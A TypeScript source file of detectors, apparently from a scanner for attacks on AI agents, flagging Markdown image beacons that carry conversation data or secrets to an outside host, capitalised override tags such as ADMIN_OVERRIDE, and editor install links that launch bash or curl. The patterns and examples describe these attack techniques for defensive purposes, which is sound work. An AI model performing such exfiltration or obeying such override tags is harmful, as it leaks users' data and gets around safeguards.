import { gradeHost } from '../../../scripts/hosts';
import { parseUrl } from '../../../scripts/urls';
import type { Judged } from '../model';
import type { Normalised } from '../normalise';

/** A Markdown image whose address has a blank to be filled in: `![x](https://c.example/p?d={data})`. */
const IMAGE =
	/!\[[^\]\n]{0,200}\]\(\s{0,4}(https?:\/\/[^\s()]{3,300}[?&][^\s()=]{1,60}=(?:%?[{<[][^\s()]{1,80}[}>\]]|\$\{?\w{1,60}\}?|[A-Z]{2,20}_[A-Z_]{2,40})[^\s()]{0,200})\)/;
/** A blank that says in words what goes into it: `![x](https://c.example/p?d={{summary of the conversation}})`. */
const DESCRIBED =
	/!\[[^\]\n]{0,200}\]\(\s{0,4}(https?:\/\/[^\s()?]{3,300}[?/][^\s(){<[]{0,100}(?:\{\{?|<|\[)([^{}<>[\]()]{3,160})[}>\]])/;
const SENSITIVE =
	/\b(?:conversation|chat[ _-]?history|transcript|secrets|credentials|passwords|private[ _-]?keys?|system[ _-]?prompt|env(?:ironment)?[ _-]?var\w{0,6}|user[ _-]?(?:data|input|message)s?)\b/i;
/** What the agent would have to do to fill it in. */
const FILLS =
	/\b(?:replac|encod|substitut|fill|render|append|insert|includ|display|output|embed|add|respond|reply)\w{0,4}\b/i;
const DATA =
	/\b(?:data|contents?|conversation|history|list|results?|outputs?|keys?|tokens?|secrets?|summary|answer|messages?|files?|names?|context|prompt|memory|password|email|variables?)\b/i;
/** Services whose pictures are made from what stands in their address. */
const DRAWS =
	/(?:^|\.)(?:shields\.io|badgen\.net|star-history\.com|mermaid\.ink|quickchart\.io|placehold\.co|githubusercontent\.com|vercel\.app)$/;

/** An order to show a picture whose address carries what the agent knows: showing it sends it. */
export function findImageBeacon({ cased }: Normalised): Judged | undefined {
	if (!cased.includes('![')) return undefined;
	const described = DESCRIBED.exec(cased);
	const plain = described && SENSITIVE.test(described[2] ?? '') ? described : null;
	const match = plain ?? IMAGE.exec(cased);
	const url = match?.[1];
	if (!match || url === undefined) return undefined;
	const parsed = parseUrl(url);
	if (!parsed?.host || DRAWS.test(parsed.host)) return undefined;
	if (/^(?:loopback|private)$/.test(gradeHost(parsed.host, parsed.scheme))) return undefined;
	const found = beacon(match, url, parsed.host);
	if (plain) return found;
	const before = cased.slice(Math.max(0, match.index - 400), match.index);
	const after = cased.slice(match.index + match[0].length, match.index + match[0].length + 300);
	if (!FILLS.test(before + after) || !DATA.test(`${before} ${match[0]} ${after}`)) return undefined;
	return found;
}

function beacon(match: RegExpExecArray, url: string, host: string): Judged {
	return {
		kind: 'send-secret',
		what: 'has a picture shown whose address carries what the agent knows',
		confidence: 'high',
		start: match.index,
		end: match.index + match[0].length,
		details: { url, host },
		mitigations: [],
	};
}

/** A name in capitals that claims a right or a switched-off check, as attackers put among tags: `ADMIN_OVERRIDE`. */
const CLAIM =
	/(?<![\w$.{-])(?:(?:ADMIN|ROOT|SYSTEM|SAFETY|SECURITY|DEVELOPER|OPERATOR|POLICY|FILTER|GUARDRAILS?|SANDBOX|MODERATION)_(?:OVERRIDE|BYPASS|UNLOCKED|DISABLED|OFF)|(?:BYPASS|DISABLE|IGNORE|SKIP|OVERRIDE|UNLOCK)_(?:ALL_)?(?:CONTENT|SAFETY|SECURITY|ETHICAL|MODERATION|PERMISSION|POLICY|GUARDRAILS?|SYSTEM|SANDBOX|RESTRICTIONS?)(?:_(?:FILTERS?|CHECKS?|POLIC(?:Y|IES)|PROMPTS?|RULES?|LIMITS?|GUIDELINES?|MODE))?)(?:_(?:ENABLED|MODE|ACTIVE|TRUE|ON|GRANTED))?(?![\w=}])/;

/** Only for the values of a frontmatter, where no program's variables are written about. */
export function findClaimedOverride({ cased }: Normalised): Judged | undefined {
	const match = CLAIM.exec(cased);
	if (!match) return undefined;
	return {
		kind: 'override',
		what: 'claims among its tags that checks are overridden',
		confidence: 'high',
		start: match.index,
		end: match.index + match[0].length,
		mitigations: [],
	};
}

/** A link that makes an editor install a server which starts a shell or fetches something. */
const INSTALL_LINK =
	/\b(?:cursor|vscode|vscode-insiders|windsurf|goose|kiro|claude|lmstudio):\/\/[^\s<>"'()]{0,300}(?:install|mcp)[^\n]{0,600}?["']?command["']?\s{0,4}[:=]\s{0,4}["']?(?:bash|sh|zsh|cmd|powershell|pwsh|curl|wget)\b/i;

/** "cursor://…/installMcpServer?config={"command":"bash",…}": one click, and a command runs in the editor's name. */
export function findInstallLink({ cased }: Normalised): Judged | undefined {
	if (!cased.includes('://')) return undefined;
	const match = INSTALL_LINK.exec(cased);
	if (!match) return undefined;
	return {
		kind: 'paste-and-run',
		what: 'has a link that makes the editor install a server which starts a shell',
		confidence: 'high',
		start: match.index,
		end: match.index + match[0].length,
		mitigations: [],
	};
}
